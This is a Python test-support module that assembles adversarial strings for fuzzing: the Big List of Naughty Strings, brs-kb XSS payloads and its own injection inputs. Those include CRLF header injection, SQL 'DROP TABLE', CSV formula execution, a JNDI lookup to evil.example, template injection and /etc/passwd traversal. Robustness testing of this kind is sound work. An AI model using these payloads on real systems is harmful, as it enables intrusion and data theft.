"""Texts that break what does not expect them.

Max Woolf's Big List of Naughty Strings (its licence lies beside it), the scripts of the package
brs-kb, which try to run in a page, and what both lack: what ends lines, colours terminals, begins
formulas, or has no end.
"""

import json
from collections.abc import Iterable, Iterator
from functools import cache
from itertools import cycle, islice
from pathlib import Path

from brs_kb.payloads import FULL_PAYLOAD_DATABASE

LISTED: list[str] = json.loads(Path(__file__).with_name("naughty_strings.json").read_text())

CONTROLS = "".join(map(chr, [*range(1, 32), 127, *range(128, 160)]))
OURS = [
    *("\0", "a\0b", "%00", CONTROLS, "\x1b[31mred\x1b[0m\x1b]0;title\x07", "\u202eexe.gpj"),
    *("a\r\nX-Injected: yes\r\n\r\n<b>", "a\nBcc: victim@example.com", "a\u2028b\u2029c\x85d"),
    *("%0d%0aSet-Cookie:%20a=b", "\r\nid: 9\r\ndata: x\r\n\r\n", "'; DROP TABLE tracking_site; --"),
    *("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", '"=1+1"'),
    *("{{ 7 * 7 }}", "{% debug %}", "${jndi:ldap://evil.example/a}", "<%= 7 * 7 %>", "__proto__"),
    *("../../../../etc/passwd", "..\\..\\windows", "file:///etc/passwd", "/dev/null", "con", "."),
    *("9" * 400, "-9223372036854775809", "1e309", "NaN", "Infinity", "0x7f", "１２", "²"),
    *("(a+)+$", "a" * 30 + "!", "(?P<x>", "[[:alpha:]]", "*" * 50, "%" * 50, "_" * 50),
    *("a" * 5000, "é" * 1500, "\U0001f469\u200d" * 300, "\u0301" * 400, "[" * 3000, "&" * 2000),
    *("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/%2f.."),
    *("http://[::1", "http://a:b@c:99999/", "https://exa mple/", "http://\u2100.example/", "::"),
    *("0000-00-00", "9999-12-31", "2026-02-30", "24h", "-1d", "1970-01-01T00:00:00+99:99"),
]
NAUGHTY = list(dict.fromkeys([*LISTED, *OURS]))


@cache
def scripts() -> list[str]:
    return list(dict.fromkeys(each.payload for each in FULL_PAYLOAD_DATABASE.values()))


@cache
def everything() -> list[str]:
    return list(dict.fromkeys([*NAUGHTY, *scripts()]))


def rows(fields: int, texts: Iterable[str] = NAUGHTY) -> Iterator[list[str]]:
    """Each text in each of so many fields, beside others in the rest: as many rows as texts."""
    texts = list(texts)
    # Steps that differ keep the same texts from always meeting.
    columns = [islice(cycle(texts), 17 * field, None) for field in range(fields)]
    return islice(zip(*columns, strict=True), len(texts))  # type: ignore[return-value]
